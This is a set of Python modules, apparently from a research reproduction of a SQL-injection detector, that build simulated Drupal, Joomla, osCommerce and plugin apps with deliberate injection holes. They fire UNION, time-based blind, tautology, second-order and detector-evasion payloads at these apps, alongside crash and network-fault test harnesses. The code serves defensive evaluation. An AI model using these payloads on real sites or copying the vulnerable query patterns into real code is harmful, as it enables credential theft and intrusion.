    def __init__(self, fragments: Sequence[str] = (), epoch: int = 0) -> None:
        self.fragments: list[str] = []
        self.epoch = 0
        self.audit: list[dict] = []
        self.overlays: dict[str, list[str]] = {}
        if fragments:
            self.apply(("add", list(fragments)))
        self.epoch = max(self.epoch, epoch)

    def apply(self, op) -> "StoreOracle":
        kind = op[0]
        if kind == "add":
            seen = set(self.fragments)
            added = 0
            for fragment in op[1]:
                if fragment and fragment not in seen:
                    seen.add(fragment)
                    self.fragments.append(fragment)
                    added += 1
            self.epoch += added
        elif kind == "remove":
            if op[1] in self.fragments:
                self.fragments = [f for f in self.fragments if f != op[1]]
                self.epoch += 1
        elif kind == "reload":
            kept: list[str] = []
            seen = set()
            for fragment in op[1]:
                if fragment and fragment not in seen:
                    seen.add(fragment)
                    kept.append(fragment)
            self.fragments = kept
            self.epoch += 1
        elif kind == "audit":
            self.audit.append(op[1])
        elif kind == "overlay":
            kept = []
            seen = set()
            for fragment in op[2]:
                if fragment and fragment not in seen:
                    seen.add(fragment)
                    kept.append(fragment)
            self.overlays[op[1]] = kept
        else:  # pragma: no cover
            raise ValueError(f"unknown op kind {op[0]!r}")
        return self

    def apply_all(self, ops: Iterable) -> "StoreOracle":
        for op in ops:
            self.apply(op)
        return self

    def matches(self, recovered) -> bool:
        """Exact equivalence against a :class:`RecoveredState`."""
        return (
            list(recovered.fragments) == self.fragments
            and recovered.epoch == self.epoch
            and list(recovered.audit) == self.audit
            and {t: list(f) for t, f in recovered.overlays.items()}
            == self.overlays
        )


def generate_ops(rng, count: int) -> list:
    """A seeded op sequence (the CHAOS_SEED schedule for CI smoke runs)."""
    ops = []
    vocabulary = [f"SELECT f{i} FROM t WHERE c = " for i in range(24)]
    for i in range(count):
        roll = rng.random()
        if roll < 0.45:
            ops.append(("add", rng.sample(vocabulary, rng.randint(1, 4))))
        elif roll < 0.60:
            ops.append(("remove", rng.choice(vocabulary)))
        elif roll < 0.75:
            ops.append(("reload", rng.sample(vocabulary, rng.randint(2, 8))))
        elif roll < 0.90:
            ops.append(
                ("audit", {"attack": i, "query": f"1 OR {i}={i}", "seed": True})
            )
        else:
            ops.append(
                ("overlay", f"tenant-{rng.randint(0, 3)}",
                 rng.sample(vocabulary, rng.randint(1, 3)))
            )
    return ops


# ----------------------------------------------------------------------
# Real-SIGKILL child harness
# ----------------------------------------------------------------------


def _sigkill_child(state_dir: str, ops: list, plan_kwargs: dict) -> None:
    """Child body: apply ops against real durable state until SIGKILL.

    Runs with ``hard_kill=True`` so the scheduled fault point delivers a
    genuine ``os.kill(getpid(), SIGKILL)`` -- no exception handling, no
    interpreter shutdown, no buffered-file flushing happens after it.
    If the schedule never fires the child exits 0 (the parent treats
    that as "ran to completion").
    """
    from ..persist import DurableState, FsyncPolicy

    checkpoint_every = plan_kwargs.pop("_checkpoint_every", 4)
    plan = FaultPlan(hard_kill=True, **plan_kwargs)
    state = DurableState(
        state_dir,
        fsync=FsyncPolicy.NEVER,
        checkpoint_every=checkpoint_every,
        opener=plan.opener(),
        replace=plan.replace(),
    )
    # The gateway drives the checkpoint cadence in production; the child
    # does the same so rename/checkpoint crash points actually occur.
    for op in ops:
        apply_op(state, op)
        state.maybe_checkpoint()
    state.close()


def run_to_sigkill(
    state_dir: str,
    ops: list,
    *,
    crash_at_write: int | None = None,
    crash_at_rename: int | None = None,
    partial_fraction: float = 0.5,
    timeout: float = 60.0,
) -> bool:
    """Fork a child, let it mutate ``state_dir``, SIGKILL it mid-fault.

    Returns ``True`` when the child died by SIGKILL (exitcode ``-9``),
    ``False`` when the schedule never fired and it exited cleanly.  Any
    other exit code raises -- the child must die at the fault point or
    finish, never error.
    """
    ctx = multiprocessing.get_context("fork")
    child = ctx.Process(
        target=_sigkill_child,
        args=(
            state_dir,
            ops,
            {
                "crash_at_write": crash_at_write,
                "crash_at_rename": crash_at_rename,
                "partial_fraction": partial_fraction,
            },
        ),
    )
    child.start()
    child.join(timeout)
    if child.is_alive():  # pragma: no cover - hung child
        child.kill()
        child.join()
        raise RuntimeError("sigkill child hung past its timeout")
    if child.exitcode == -signal.SIGKILL:
        return True
    if child.exitcode == 0:
        return False
    raise RuntimeError(f"sigkill child exited {child.exitcode}")