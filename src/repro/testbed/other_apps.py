"""The three non-WordPress case studies of paper Section V-B.

- **Drupal** (CVE-2014-3704, "Drupageddon"): user-supplied *array keys*
  become placeholder names while the query is expanded for preparation, so
  a crafted key injects SQL even though the values go through placeholders.
  Union-based.
- **Joomla** (CVE-2013-1453): encoded cookie input is unserialized into an
  object whose member variables are attacker-controlled; the object builds
  a SQL query from them on destruction.  Double-blind (and invisible to NTI
  even unmutated, because the input is serialized+encoded).
- **osCommerce** (OSVDB-103365, ``geo_zones.php`` ``zID`` parameter):
  straightforward tautology.  Its source vocabulary contains the spaced
  ``OR``/``=`` fragments, so the exploit written with matching whitespace
  evades PTI from the start -- the 14th PTI evasion of the paper's 14/53.

Each scenario builds a small application on the shared framework plus an
``evaluate()`` that produces the per-technique detection row of Table IV.
"""

from __future__ import annotations

import base64
import re
from dataclasses import dataclass
from typing import Callable

from ..core.engine import JozaEngine
from ..core.policy import JozaConfig
from ..database import Column, ColumnType, Database, TableSchema
from ..phpapp.application import WebApplication
from ..phpapp.php_serialize import PhpObject, php_serialize, php_unserialize
from ..phpapp.request import HttpRequest, HttpResponse
from .plugin_defs import AttackType
from .wordpress import ADMIN_PASSWORD_HASH

__all__ = ["Scenario", "ScenarioReport", "drupal_scenario", "joomla_scenario",
           "oscommerce_scenario", "all_scenarios"]


@dataclass
class ScenarioReport:
    """One bottom row of Table IV."""

    name: str
    version: str
    advisory: str
    attack_type: str
    nti_original: bool
    nti_mutated: bool   # detection of the NTI-evasive mutant
    pti_original: bool
    pti_mutated: bool   # detection of the PTI-evasive mutant (if one exists)
    joza: bool          # Joza detected original and both mutants


@dataclass
class Scenario:
    """A case-study application with original and mutated exploits."""

    name: str
    version: str
    advisory: str
    attack_type: str
    build_app: Callable[[], WebApplication]
    make_request: Callable[[str], HttpRequest]
    original_payloads: tuple
    nti_mutated_payloads: tuple
    pti_mutated_payloads: tuple | None  # None when no PTI evasion exists
    oracle: Callable[[WebApplication, list[HttpResponse]], bool]

    # ------------------------------------------------------------------

    def run(self, app: WebApplication, payloads: tuple) -> tuple[bool, bool]:
        """(success, blocked) of firing ``payloads`` at ``app``."""
        responses = [app.handle(self.make_request(p)) for p in payloads]
        if any(r.blocked for r in responses):
            return False, True
        return self.oracle(app, responses), False

    def _detected(self, config: JozaConfig, payloads: tuple) -> bool:
        app = self.build_app()
        engine = JozaEngine.protect(app, config)
        self.run(app, payloads)
        return bool(engine.attack_log)

    def evaluate(self) -> ScenarioReport:
        """Compute the Table IV row for this application."""
        nti_cfg = JozaConfig(enable_pti=False)
        pti_cfg = JozaConfig(enable_nti=False)
        full_cfg = JozaConfig()
        pti_mut = self.pti_mutated_payloads
        joza = (
            self._detected(full_cfg, self.original_payloads)
            and self._detected(full_cfg, self.nti_mutated_payloads)
            and (pti_mut is None or self._detected(full_cfg, pti_mut))
        )
        return ScenarioReport(
            name=self.name,
            version=self.version,
            advisory=self.advisory,
            attack_type=self.attack_type,
            nti_original=self._detected(nti_cfg, self.original_payloads),
            nti_mutated=self._detected(nti_cfg, self.nti_mutated_payloads),
            pti_original=self._detected(pti_cfg, self.original_payloads),
            pti_mutated=(
                self._detected(pti_cfg, pti_mut) if pti_mut is not None else True
            ),
            joza=joza,
        )


# ----------------------------------------------------------------------
# Drupal -- placeholder-name injection in prepared-statement expansion
# ----------------------------------------------------------------------

_DRUPAL_SOURCE = r'''<?php
// includes/database/database.inc (expandArguments, simplified)
$query = "SELECT uid, name, pass FROM d_users WHERE uid IN (:ids) AND status = 1";
$placeholder = ":ids_";
$login_query = "SELECT uid FROM d_users WHERE name = :name AND pass = :pass";
$or_helper = " OR ";
$eq_helper = " = ";
?>'''


def _build_drupal() -> WebApplication:
    db = Database("drupal")
    db.create_table(
        TableSchema(
            "d_users",
            [
                Column("uid", ColumnType.INTEGER, primary_key=True, auto_increment=True),
                Column("name", ColumnType.TEXT),
                Column("pass", ColumnType.TEXT),
                Column("status", ColumnType.INTEGER, default=1),
            ],
        )
    )
    db.execute(
        "INSERT INTO d_users (name, pass, status) VALUES "
        f"('admin', '{ADMIN_PASSWORD_HASH}', 1), ('guest', 'x', 1)"
    )

    def login(app: WebApplication, request: HttpRequest) -> str:
        # Drupal's expandArguments: one placeholder per *array key* of the
        # user-supplied id list.  Keys are attacker-controlled text.
        keys = [k for k in request.post.get("ids", "0").split("&") if k]
        placeholders = ", ".join(f":ids_{key}" for key in keys)
        query = (
            "SELECT uid, name, pass FROM d_users WHERE uid IN "
            f"({placeholders}) AND status = 1"
        )
        # "Prepare" then bind values.  A placeholder *name* ends at the
        # first non-word character, so a malicious key contributes only its
        # leading word to the placeholder -- the rest lands in the query as
        # raw SQL.  That is exactly CVE-2014-3704.  The bound value is the
        # id the caller asked for (its leading digits).
        query = re.sub(
            r":ids_(\d*)\w*", lambda m: m.group(1) or "0", query
        )
        result = app.wrapper.query(query)
        return "\n".join(" | ".join(str(v) for v in row) for row in result.rows)

    # Drupal does not apply magic quotes.
    app = WebApplication(
        "drupal-7.31-sim",
        db,
        core_source=_DRUPAL_SOURCE,
        core_routes={"/drupal/login": login},
        magic_quotes=False,
        trim_authenticated=False,
    )
    return app


def drupal_scenario() -> Scenario:
    # Injected through the array *key*; the value of the key text lands
    # verbatim in the expanded query.
    original = "0) UNION SELECT 1, name, pass FROM d_users -- "
    # NTI evasion: the placeholder expansion is itself the exploitable
    # transformation.  The key's leading word becomes the placeholder name
    # and is *replaced wholesale* by the bound value during preparation, so
    # a long junk prefix disappears from the final query -- a "large block
    # of transformable data" that inflates the edit distance past any
    # threshold.
    nti_evading = "0" + "x" * 40 + ") UNION SELECT 1, name, pass FROM d_users -- "

    def make_request(payload) -> HttpRequest:
        value = str(payload)
        request = HttpRequest(method="POST", path="/drupal/login")
        request.post["ids"] = value
        request.post["k0"] = value  # each array key is also its own input
        return request

    def oracle(app: WebApplication, responses: list[HttpResponse]) -> bool:
        return ADMIN_PASSWORD_HASH in responses[0].body

    return Scenario(
        name="Drupal",
        version="7.31",
        advisory="CVE-2014-3704",
        attack_type=AttackType.UNION,
        build_app=_build_drupal,
        make_request=make_request,
        original_payloads=(original,),
        nti_mutated_payloads=(nti_evading,),
        pti_mutated_payloads=None,  # FROM/comment not in Drupal's fragments
        oracle=oracle,
    )


# ----------------------------------------------------------------------
# Joomla -- object injection via an encoded cookie
# ----------------------------------------------------------------------

_JOOMLA_SOURCE = r'''<?php
// plugins/system/remember (simplified): the session cookie is
// base64-encoded serialized data; JTableSession::restore() later builds a
// query from the object's member variables.
$restore_query = "SELECT session_id, userid FROM j_session WHERE userid = $userid ORDER BY time DESC";
$touch_query = "UPDATE j_session SET time = $now WHERE session_id = $sid";
?>'''


def _build_joomla() -> WebApplication:
    db = Database("joomla")
    db.create_table(
        TableSchema(
            "j_session",
            [
                Column("session_id", ColumnType.INTEGER, primary_key=True, auto_increment=True),
                Column("userid", ColumnType.INTEGER),
                Column("time", ColumnType.INTEGER),
            ],
        )
    )
    db.create_table(
        TableSchema(
            "j_users",
            [
                Column("id", ColumnType.INTEGER, primary_key=True, auto_increment=True),
                Column("username", ColumnType.TEXT),
                Column("password", ColumnType.TEXT),
            ],
        )
    )
    db.execute("INSERT INTO j_session (userid, time) VALUES (42, 100), (7, 90)")
    db.execute(
        "INSERT INTO j_users (username, password) VALUES "
        f"('admin', '{ADMIN_PASSWORD_HASH}')"
    )

    def restore(app: WebApplication, request: HttpRequest) -> str:
        cookie = request.cookies.get("joomla_remember", "")
        try:
            decoded = base64.b64decode(cookie.encode("ascii")).decode("utf-8")
            obj = php_unserialize(decoded)
        except Exception:
            return "<p>Invalid session.</p>"
        userid = str(obj.get("userid", "0")) if isinstance(obj, PhpObject) else "0"
        # The object's member variable is interpolated unescaped -- the
        # destructor-built query of CVE-2013-1453.
        query = (
            "SELECT session_id, userid FROM j_session WHERE userid = "
            f"{userid} ORDER BY time DESC"
        )
        result = app.wrapper.query(query)
        return f"<p>Sessions: {len(result.rows)}</p>"

    return WebApplication(
        "joomla-3.0.1-sim",
        db,
        core_source=_JOOMLA_SOURCE,
        core_routes={"/joomla/session": restore},
        magic_quotes=True,
        trim_authenticated=False,
    )


def _joomla_cookie(userid_payload: str) -> str:
    obj = PhpObject("JTableSession", {"userid": userid_payload})
    return base64.b64encode(php_serialize(obj).encode("utf-8")).decode("ascii")


def joomla_scenario() -> Scenario:
    cond_true = "(SELECT LENGTH(password) FROM j_users LIMIT 1)=32"
    cond_false = "(SELECT LENGTH(password) FROM j_users LIMIT 1)=31"
    originals = (
        _joomla_cookie(f"42 AND IF({cond_true},SLEEP(3),0)"),
        _joomla_cookie(f"42 AND IF({cond_false},SLEEP(3),0)"),
    )

    def make_request(payload: str) -> HttpRequest:
        request = HttpRequest(path="/joomla/session")
        request.cookies["joomla_remember"] = payload
        return request

    def oracle(app: WebApplication, responses: list[HttpResponse]) -> bool:
        return responses[0].elapsed >= 2.4 and responses[1].elapsed < 2.4

    return Scenario(
        name="Joomla",
        version="3.0.1",
        advisory="CVE-2013-1453",
        attack_type=AttackType.DOUBLE_BLIND,
        build_app=_build_joomla,
        make_request=make_request,
        original_payloads=originals,
        # The input is already encoded: the original *is* the NTI evasion.
        nti_mutated_payloads=originals,
        pti_mutated_payloads=None,  # IF/SLEEP are not in Joomla's fragments
        oracle=oracle,
    )


# ----------------------------------------------------------------------
# osCommerce -- geo_zones.php tautology
# ----------------------------------------------------------------------

_OSCOMMERCE_SOURCE = r'''<?php
// admin/geo_zones.php (simplified)
$zones_query = "SELECT zone_id, zone_name, zone_notes FROM geo_zones WHERE zone_id = $zID ORDER BY zone_name";
$filter = " OR ";
$assign = " = ";
$count_query = "SELECT COUNT(*) FROM geo_zones";
?>'''


def _build_oscommerce() -> WebApplication:
    db = Database("oscommerce")
    db.create_table(
        TableSchema(
            "geo_zones",
            [
                Column("zone_id", ColumnType.INTEGER, primary_key=True, auto_increment=True),
                Column("zone_name", ColumnType.TEXT),
                Column("zone_notes", ColumnType.TEXT),
            ],
        )
    )
    db.execute(
        "INSERT INTO geo_zones (zone_name, zone_notes) VALUES "
        "('Florida', 'FL sales tax'), ('Texas', 'TX sales tax'), "
        "('Internal', 'HIDDEN-oscommerce-fraud-rules')"
    )

    def zones(app: WebApplication, request: HttpRequest) -> str:
        zid = request.get.get("zID", "0")
        query = (
            "SELECT zone_id, zone_name, zone_notes FROM geo_zones "
            f"WHERE zone_id = {zid} ORDER BY zone_name"
        )
        result = app.wrapper.query(query)
        return "\n".join(" | ".join(str(v) for v in row) for row in result.rows)

    return WebApplication(
        "oscommerce-2.3.3.4-sim",
        db,
        core_source=_OSCOMMERCE_SOURCE,
        core_routes={"/oscommerce/geo_zones": zones},
        magic_quotes=True,
        trim_authenticated=False,
    )


def oscommerce_scenario() -> Scenario:
    # Written with the spacing present in osCommerce's own fragments, the
    # tautology evades PTI *as-is*: the paper's 14th PTI evasion.
    pti_evading = "0 OR 1 = 1"
    # NTI evasion: magic-quotes quote stuffing.
    nti_evading = "0 /*" + "'" * 24 + "*/ OR 1 = 1"

    def make_request(payload: str) -> HttpRequest:
        return HttpRequest(path="/oscommerce/geo_zones", get={"zID": payload})

    def oracle(app: WebApplication, responses: list[HttpResponse]) -> bool:
        return "HIDDEN-oscommerce" in responses[0].body

    return Scenario(
        name="osCommerce",
        version="2.3.3.4",
        advisory="OSVDB-103365",
        attack_type=AttackType.TAUTOLOGY,
        build_app=_build_oscommerce,
        make_request=make_request,
        original_payloads=(pti_evading,),
        nti_mutated_payloads=(nti_evading,),
        pti_mutated_payloads=(pti_evading,),
        oracle=oracle,
    )


def all_scenarios() -> list[Scenario]:
    """Drupal, Joomla and osCommerce, in Table IV order."""
    return [joomla_scenario(), drupal_scenario(), oscommerce_scenario()]
