"""Second-order and mixed-source injection scenarios (paper Section III-B).

The paper claims two PTI strengths that the main evaluation never
exercises:

- *"PTI is resistant to second order attacks, such as when the injection
  payload is cached into a file, and then retrieved by the application and
  fed into a query."*  NTI cannot see these at all: at the moment the
  malicious query runs, the triggering request carries no matching input.
- *"PTI is also resistant to mixed input-source attacks, such as when an
  injection payload is constructed inside the application by concatenating
  harmless inputs from different sources."*  NTI never combines markings
  across inputs, so each source's share covers no whole critical token.

This module contributes two additional vulnerable plugins implementing
exactly those patterns, plus helpers that run the two-phase /
multi-channel attacks, so the claims become executable experiments
(``tests/integration/test_second_order.py``).

These plugins are *extensions*: they are not part of the 50-plugin Table I
census and must be installed explicitly with :func:`install_extensions`.
"""

from __future__ import annotations

from dataclasses import dataclass

from ..database import Column, ColumnType, TableSchema
from ..phpapp.application import Plugin, WebApplication
from ..phpapp.request import HttpRequest, HttpResponse
from .wordpress import ADMIN_PASSWORD_HASH

__all__ = [
    "GUESTBOOK_SOURCE",
    "BANNER_SOURCE",
    "install_extensions",
    "SecondOrderAttack",
    "MixedSourceAttack",
]

# ----------------------------------------------------------------------
# Second-order: a guestbook that stores the visitor's website verbatim and
# later splices the *stored* value into an analytics query.
# ----------------------------------------------------------------------

GUESTBOOK_SOURCE = r'''<?php
/*
Plugin Name: Guestbook Deluxe
Version: 1.4
*/
$name = $_POST['name'];
$website = $_POST['website'];
$insert = "INSERT INTO wp_guestbook (visitor_name, website) VALUES ('$name', '$website')";
mysql_query($insert);
// ---- later, on display ----
$entry = $_GET['entry'];
$fetch = "SELECT website FROM wp_guestbook WHERE id = $entry";
$row = mysql_query($fetch);
$site = $row['website']; // trusted? it came from OUR database...
$stats = "SELECT id, hits FROM wp_guestbook_stats WHERE site = '$site' ORDER BY hits DESC";
mysql_query($stats);
?>'''


def _guestbook_sign(app: WebApplication, request: HttpRequest) -> str:
    name = request.post.get("name", "anonymous")
    website = request.post.get("website", "")
    app.wrapper.query(
        "INSERT INTO wp_guestbook (visitor_name, website) VALUES "
        f"('{name}', '{website}')"
    )
    return "<p>Thanks for signing!</p>"


def _guestbook_view(app: WebApplication, request: HttpRequest) -> str:
    entry = request.get.get("entry", "1")
    fetched = app.wrapper.query(
        f"SELECT website FROM wp_guestbook WHERE id = {entry}"
    )
    site = fetched.scalar()
    if site is None:
        return "<p>No such entry.</p>"
    # The stored value is spliced unescaped: the second-order sink.
    stats = app.wrapper.query(
        "SELECT id, hits FROM wp_guestbook_stats WHERE site = "
        f"'{site}' ORDER BY hits DESC"
    )
    lines = [f"<h2>Guestbook entry</h2>", f"<div>site: {site}</div>"]
    lines.extend(f"<div>{' | '.join(str(v) for v in row)}</div>" for row in stats.rows)
    return "\n".join(lines)


# ----------------------------------------------------------------------
# Mixed-source: a banner plugin that concatenates a GET parameter, a
# cookie and a header into one zone expression.
# ----------------------------------------------------------------------

BANNER_SOURCE = r'''<?php
/*
Plugin Name: Banner Zones
Version: 0.9
*/
$zone = $_GET['zone'] . $_COOKIE['bz_region'] . $_SERVER['X-Banner-Slot'];
$query = "SELECT id, banner_url FROM wp_banner_zones WHERE zone_id = $zone";
mysql_query($query);
?>'''


def _banner_zone(app: WebApplication, request: HttpRequest) -> str:
    zone = (
        request.get.get("zone", "")
        + request.cookies.get("bz_region", "")
        + request.headers.get("X-Banner-Slot", "")
    ) or "1"
    result = app.wrapper.query(
        f"SELECT id, banner_url FROM wp_banner_zones WHERE zone_id = {zone}"
    )
    return "\n".join(" | ".join(str(v) for v in row) for row in result.rows)


def install_extensions(app: WebApplication) -> None:
    """Install the second-order and mixed-source plugins on a testbed app."""
    app.db.create_table(
        TableSchema(
            "wp_guestbook",
            [
                Column("id", ColumnType.INTEGER, primary_key=True, auto_increment=True),
                Column("visitor_name", ColumnType.TEXT),
                Column("website", ColumnType.TEXT),
            ],
        )
    )
    app.db.create_table(
        TableSchema(
            "wp_guestbook_stats",
            [
                Column("id", ColumnType.INTEGER, primary_key=True, auto_increment=True),
                Column("site", ColumnType.TEXT),
                Column("hits", ColumnType.INTEGER),
            ],
        )
    )
    app.db.execute(
        "INSERT INTO wp_guestbook_stats (site, hits) VALUES "
        "('http://example.test', 12), ('http://blog.example.test', 4)"
    )
    app.db.create_table(
        TableSchema(
            "wp_banner_zones",
            [
                Column("id", ColumnType.INTEGER, primary_key=True, auto_increment=True),
                Column("zone_id", ColumnType.INTEGER),
                Column("banner_url", ColumnType.TEXT),
            ],
        )
    )
    app.db.execute(
        "INSERT INTO wp_banner_zones (zone_id, banner_url) VALUES "
        "(1, '/b/top.png'), (2, '/b/side.png')"
    )
    app.register_plugin(
        Plugin(
            name="guestbook",
            version="1.4",
            source=GUESTBOOK_SOURCE,
            routes={
                "/plugin/guestbook/sign": _guestbook_sign,
                "/plugin/guestbook": _guestbook_view,
            },
        )
    )
    app.register_plugin(
        Plugin(
            name="bannerzones",
            version="0.9",
            source=BANNER_SOURCE,
            routes={"/plugin/bannerzones": _banner_zone},
        )
    )


@dataclass
class SecondOrderAttack:
    """Two-phase attack driver for the guestbook plugin.

    Phase 1 (plant): POST a malicious ``website`` value; WordPress's magic
    quotes escape it on the wire, the INSERT's string parsing un-escapes it,
    and the raw payload lands in the database.
    Phase 2 (trigger): GET the entry; the stored payload is spliced into the
    stats query.  The triggering request carries only the benign entry id.
    """

    payload: str = (
        "no-such-site' UNION SELECT 1, user_pass FROM wp_users ORDER BY hits DESC-- -"
    )

    def plant(self, app: WebApplication) -> HttpResponse:
        return app.handle(
            HttpRequest(
                method="POST",
                path="/plugin/guestbook/sign",
                post={"name": "mallory", "website": self.payload},
            )
        )

    def trigger(self, app: WebApplication, entry: int = 1) -> HttpResponse:
        return app.handle(
            HttpRequest(path="/plugin/guestbook", get={"entry": str(entry)})
        )

    def succeeded(self, response: HttpResponse) -> bool:
        return ADMIN_PASSWORD_HASH in response.body


@dataclass
class MixedSourceAttack:
    """Single-request attack assembling its payload from three channels.

    The tautology ``0 OR TRUE`` (the paper's own Section III-A example) is
    cut inside each of its two critical tokens, one share per input source,
    so no single input's NTI marking covers a whole critical token --
    payload construction across *sources* rather than parameters.
    """

    get_part: str = "0 O"
    cookie_part: str = "R TR"
    header_part: str = "UE"

    def fire(self, app: WebApplication) -> HttpResponse:
        return app.handle(
            HttpRequest(
                path="/plugin/bannerzones",
                get={"zone": self.get_part},
                cookies={"bz_region": self.cookie_part},
                headers={"X-Banner-Slot": self.header_part},
            )
        )

    def succeeded(self, response: HttpResponse) -> bool:
        # The tautology dumps every banner zone, not just the requested one.
        return "/b/top.png" in response.body and "/b/side.png" in response.body
