"""Seeded network-fault harness for the guard gateway.

The gateway (DESIGN.md section 12) claims its own invariant on top of the
engine's: *every request that reaches a listener resolves to a recorded
fail-closed verdict or a clean protocol error -- under any network fault
schedule*.  This module is the adversary: a reproducible
:class:`NetFaultSchedule` (same positional design as
:class:`~repro.testbed.faults.FaultSchedule`) driving socket-level attacks
that no well-behaved client library can produce:

- **TORN_FRAME** -- announce a frame, send a prefix of it, disconnect.
- **GARBAGE** -- a correctly-framed payload of seeded random bytes.
- **OVERSIZED** -- a length prefix past ``MAX_FRAME``; the body is never
  sent (and the gateway must refuse before trying to read it).
- **STALL** -- a slow-loris client dribbling one byte at a time.
- **WORKER_KILL** -- SIGKILL a live worker process mid-traffic.
- **SKEWED_DEADLINE** -- a request whose deadline budget is already
  negative (client clock ahead of the server's), which must shed as
  expired-on-arrival, never gain time.

:func:`run_chaos_session` interleaves these with a real workload (the
:mod:`~repro.testbed.concurrency` item vocabulary) and records one
:class:`ChaosOutcome` per request for the invariant checks in the
integration suite and the bench soak: zero fail-open, every shed recorded,
latency bounded by the deadline.
"""

from __future__ import annotations

import enum
import random
import socket
import time
from dataclasses import dataclass, field
from typing import Sequence

from ..pti import wire
from ..service.client import GatewayClient, GatewayError
from .concurrency import WorkloadItem

__all__ = [
    "NetFaultKind",
    "NetFaultSchedule",
    "NetFaultInjector",
    "ChaosOutcome",
    "run_chaos_session",
    "fail_open_outcomes",
]


class NetFaultKind(enum.Enum):
    """The injectable network fault classes."""

    TORN_FRAME = "torn_frame"
    GARBAGE = "garbage"
    OVERSIZED = "oversized"
    STALL = "stall"
    WORKER_KILL = "worker_kill"
    SKEWED_DEADLINE = "skewed_deadline"


@dataclass(frozen=True)
class NetFaultSchedule:
    """Reproducible position -> network fault mapping.

    Positions are request indices of one chaos session: before sending
    request ``i``, the fault at position ``i`` (if any) is injected.
    """

    faults: dict[int, NetFaultKind] = field(default_factory=dict)
    seed: int | None = None

    @classmethod
    def none(cls) -> "NetFaultSchedule":
        return cls({})

    @classmethod
    def fixed(cls, mapping: dict[int, NetFaultKind]) -> "NetFaultSchedule":
        return cls(dict(mapping))

    @classmethod
    def seeded(
        cls,
        seed: int,
        length: int,
        rate: float = 0.25,
        kinds: tuple[NetFaultKind, ...] = (
            NetFaultKind.TORN_FRAME,
            NetFaultKind.GARBAGE,
            NetFaultKind.OVERSIZED,
            NetFaultKind.SKEWED_DEADLINE,
        ),
    ) -> "NetFaultSchedule":
        """Draw a schedule reproducibly from ``seed``.

        ``kinds`` defaults to the cheap transport faults; STALL and
        WORKER_KILL are opt-in because each costs real wall-clock time
        (a timeout window / a worker respawn).
        """
        rng = random.Random(seed)
        faults = {
            i: rng.choice(kinds) for i in range(length) if rng.random() < rate
        }
        return cls(faults, seed=seed)

    def fault_at(self, index: int) -> NetFaultKind | None:
        return self.faults.get(index)

    def positions(self, kind: NetFaultKind | None = None) -> list[int]:
        return sorted(
            i
            for i, k in self.faults.items()
            if kind is None or k is kind
        )


class NetFaultInjector:
    """Socket-level fault generator against one gateway endpoint.

    ``gateway`` (an :class:`~repro.service.gateway.AsyncGateway`) is only
    needed for WORKER_KILL; the transport faults just need the address.
    Every injection uses its own throwaway connection so the session's
    real client connection is never the one being damaged -- mirroring a
    misbehaving *other* tenant, the case the per-connection isolation
    claim is about.
    """

    def __init__(
        self,
        *,
        unix_path: str | None = None,
        host: str | None = None,
        port: int = 0,
        gateway=None,
        seed: int | None = None,
        timeout: float = 5.0,
    ) -> None:
        if unix_path is None and host is None:
            raise ValueError("need a unix_path or a host to inject against")
        self.unix_path = unix_path
        self.host = host
        self.port = port
        self.gateway = gateway
        self.timeout = timeout
        self.rng = random.Random(seed)
        #: Injection log: ``(kind, detail)`` per injected fault.
        self.injected: list[tuple[NetFaultKind, str]] = []

    def _connect(self) -> socket.socket:
        if self.unix_path is not None:
            sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            sock.settimeout(self.timeout)
            sock.connect(self.unix_path)
            return sock
        return socket.create_connection(
            (self.host, self.port), timeout=self.timeout
        )

    @staticmethod
    def _close(sock: socket.socket) -> None:
        try:
            sock.close()
        except OSError:  # pragma: no cover - defensive
            pass

    def _sample_frame(self) -> bytes:
        return wire.pack_gateway_request(
            ["SELECT * FROM records WHERE ID=1 LIMIT 5"],
            client_id="chaos",
            budget=1.0,
        )

    # -- transport faults ----------------------------------------------

    def torn_frame(self) -> None:
        """Announce a full frame, send a random prefix, disconnect."""
        frame = self._sample_frame()
        cut = self.rng.randrange(0, len(frame))
        sock = self._connect()
        try:
            sock.sendall(wire.PREFIX.pack(len(frame)) + frame[:cut])
        finally:
            self._close(sock)
        self.injected.append((NetFaultKind.TORN_FRAME, f"cut at {cut}"))

    def garbage(self) -> bytes | None:
        """A correctly-framed payload of random bytes; returns the reply."""
        length = self.rng.randrange(1, 256)
        payload = self.rng.randbytes(length)
        sock = self._connect()
        try:
            sock.sendall(wire.PREFIX.pack(length) + payload)
            reply = self._read_reply(sock)
        finally:
            self._close(sock)
        self.injected.append((NetFaultKind.GARBAGE, f"{length} bytes"))
        return reply

    def oversized(self) -> bytes | None:
        """Announce a frame past MAX_FRAME; body never sent."""
        announced = wire.MAX_FRAME + 1 + self.rng.randrange(0, 1 << 20)
        sock = self._connect()
        try:
            sock.sendall(wire.PREFIX.pack(announced))
            reply = self._read_reply(sock)
        finally:
            self._close(sock)
        self.injected.append((NetFaultKind.OVERSIZED, f"announced {announced}"))
        return reply

    def stall(
        self, byte_delay: float = 0.05, max_bytes: int = 16
    ) -> None:
        """Slow-loris: dribble a valid frame one byte at a time, give up.

        With the gateway's ``idle_timeout``/``frame_timeout`` tuned below
        ``byte_delay * frame length`` the server must cut the connection;
        either way this connection never completes a frame.
        """
        frame = self._sample_frame()
        data = wire.PREFIX.pack(len(frame)) + frame
        sock = self._connect()
        try:
            for i in range(min(max_bytes, len(data))):
                sock.sendall(data[i : i + 1])
                time.sleep(byte_delay)
        except OSError:
            pass  # server already cut us off -- the point
        finally:
            self._close(sock)
        self.injected.append(
            (NetFaultKind.STALL, f"{byte_delay}s/byte x {max_bytes}")
        )

    def _read_reply(self, sock: socket.socket) -> bytes | None:
        """Best-effort read of one framed reply (None on cut/diet)."""
        try:
            header = b""
            while len(header) < wire.PREFIX.size:
                chunk = sock.recv(wire.PREFIX.size - len(header))
                if not chunk:
                    return None
                header += chunk
            (length,) = wire.PREFIX.unpack(header)
            if length == 0 or length > wire.MAX_FRAME:
                return None
            body = b""
            while len(body) < length:
                chunk = sock.recv(length - len(body))
                if not chunk:
                    return None
                body += chunk
            return body
        except OSError:
            return None

    # -- process faults ------------------------------------------------

    def kill_worker(self) -> int | None:
        """SIGKILL one live worker (needs the gateway handle); its pid."""
        if self.gateway is None:
            raise ValueError("kill_worker needs a gateway handle")
        workers = [w for w in self.gateway._workers if w.is_alive()]
        if not workers:
            return None
        worker = self.rng.choice(workers)
        pid = worker.pid
        worker.kill()
        self.injected.append((NetFaultKind.WORKER_KILL, f"pid {pid}"))
        return pid

    def inject(self, kind: NetFaultKind) -> None:
